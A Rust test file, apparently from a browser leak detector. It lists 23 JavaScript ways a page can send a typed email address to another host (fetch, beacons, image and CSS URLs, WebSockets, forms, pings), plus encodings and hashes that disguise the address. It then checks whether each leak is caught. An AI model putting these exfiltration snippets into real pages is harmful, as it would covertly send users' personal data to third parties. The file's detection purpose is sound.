//! Every way out of a page with every way to write what was typed: what is told, and what is told wrongly.

use crate::{Visitor, json, leaks};

/// A way out: what a page does to send the text `D` to the address `X`.
#[derive(Clone, Copy, Debug)]
pub struct Way {
    /// What it is called.
    pub name: &'static str,
    /// In JavaScript.
    pub act: &'static str,
}

const fn way(name: &'static str, act: &'static str) -> Way {
    Way { name, act }
}

/// The ways that one page can do one after the other; what goes elsewhere does so in a frame.
pub const WAYS: &[Way] = &[
    way("fetch, address", "fetch(X + '?d=' + pct(D)).catch(() => {})"),
    way("fetch, body", "fetch(X, post(D)).catch(() => {})"),
    way("fetch, JSON", "fetch(X, post(JSON.stringify({ d: D, n: 1 }))).catch(() => {})"),
    way("fetch, header", "fetch(X, { headers: { 'x-d': pct(D) } }).catch(() => {})"),
    way("Request, Blob", "fetch(new Request(X, post(new Blob([D])))).catch(() => {})"),
    way("XHR, form-urlencoded", "xhr(X, new URLSearchParams({ d: D }))"),
    way("XHR, FormData", "{ const data = new FormData(); data.append('d', D); xhr(X, data); }"),
    way("beacon", "navigator.sendBeacon(X, D)"),
    way("image", "new Image().src = X + '?d=' + pct(D)"),
    way("image, setAttribute", "document.createElement('img').setAttribute('src', X + '?d=' + pct(D))"),
    way("image, innerHTML", "box().innerHTML = '<img src=\"' + X + '?d=' + pct(D) + '\">'"),
    way("script", "document.createElement('script').src = X + '?d=' + pct(D)"),
    way("link", "document.createElement('link').href = X + '?d=' + pct(D)"),
    way("frame, path", "document.createElement('iframe').src = X + '/' + pct(D)"),
    way("style", "box().style.backgroundImage = 'url(\"' + X + '?d=' + pct(D) + '\")'"),
    way("insertRule", "rules.insertRule('h1 { background: url(\"' + X + '?d=' + pct(D) + '\") }')"),
    way("WebSocket", "new WebSocket(X.replace('http', 'ws')).send(D)"),
    way("EventSource", "new EventSource(X + '?d=' + pct(D))"),
    way("form, requestSubmit", "Object.assign(formTo(X, { d: D }), { target: 'sink' }).requestSubmit()"),
    way("form, submit", "Object.assign(formTo(X, { d: D }), { target: 'sink' }).submit()"),
    way(
        "link to elsewhere",
        "{ const a = document.createElement('a'); a.href = X + '?d=' + pct(D); a.target = 'sink'; box().append(a); a.click(); }",
    ),
    way("window.open", "window.open(X + '?d=' + pct(D), 'sink')"),
    way("ping", "pings(X + '?d=' + pct(D))"),
];

/// Ways to write the address that was typed.
pub const CODES: &[(&str, &str)] = &[
    ("plain", "E"),
    ("upper", "E.toUpperCase()"),
    ("percent", "pct(E)"),
    ("escaped", r"E.replace('@', '\\u0040')"),
    ("entities", "[...E].map(c => '&#' + c.charCodeAt() + ';').join('')"),
    ("base64", "btoa('mail=' + E)"),
    ("base64url", "b64url(E)"),
    ("b64 twice", "btoa(btoa(E))"),
    ("b64 JSON", "btoa(JSON.stringify({ a: 1, email: E }))"),
    ("hex", "hex(E)"),
    ("reversed", "[...E].reverse().join('')"),
    ("md5", "MD5"),
    ("sha1", "sha1L"),
    ("sha256", "sha256L"),
    ("SHA256", "sha256L.toUpperCase()"),
    ("b64 sha256", "rawB64"),
    ("salted", "sha256S"),
    ("md5 sha1", "MD5SHA1"),
    ("gmail's", "sha256G"),
    ("b64 gzip", "zippedText"),
];

/// What is written like that and says nothing of anybody.
pub const INNOCENT: &[(&str, &str)] = &[
    ("words", "'it does not matter, page 737 of 4111'"),
    ("domain", "'gmail.com'"),
    ("md5", "'9f86d081884c7d659a2feaa0c55ad015'"),
    ("sha256", "sha256Other"),
    ("UUID", "'f47ac10b-58cc-4372-a567-0e02b2c3d479'"),
    ("token", "noise(32)"),
    ("b64 JSON", "btoa(JSON.stringify({ a: 1, email: 'john.roe@gmail.com', t: 1737936004123 }))"),
    ("b64 gzip", "zippedOther"),
    ("long", "noise(1500)"),
];

/// Has a fresh page do one way after the other with each text; gives, by way and then by text, whether it was told.
pub async fn told(visitor: &Visitor, prefix: &str, texts: &[(&str, &str)]) -> Vec<Vec<bool>> {
    // Known causes are told once: nothing is left of an earlier round.
    visitor.opens("/privacy-policy.md").await;
    visitor.runs("sessionStorage.clear()").await;
    leaks::open(visitor, "block").await;
    let mut all = Vec::new();
    for (row, way) in WAYS.iter().enumerate() {
        let port = visitor.site().other.port();
        let host = format!("http://{prefix}{row}x");
        let list: Vec<&str> = texts.iter().map(|(_, text)| *text).collect();
        // In tasks of their own: of two navigations in one, the browser makes one.
        let script = format!(
            "(async () => {{
               const texts = [{}];
               for (let at = 0; at < texts.length; at++) {{
                 const X = {} + at + '.localhost:{port}/receive/m', D = texts[at];
                 try {{ {}; }} catch {{ /* It was stopped. */ }}
                 await new Promise(done => setTimeout(done));
               }}
               window.done_with = {row};
             }})()",
            list.join(", "),
            json!(host),
            way.act,
        );
        visitor.runs(&format!("act({})", json!(script))).await;
        visitor.sees(&format!("window.done_with === {row}")).await;
        visitor.rests().await;
        let seen = visitor
            .evaluates(&format!(
                "{}.map((_, at) => events('leak').some(event => event.detail.destination.startsWith({} + at + '.')))",
                json!(list),
                json!(host),
            ))
            .await;
        let seen = seen.as_array().map(|list| list.iter().map(|one| *one == json!(true)).collect());
        all.push(seen.unwrap_or_default());
    }
    all
}
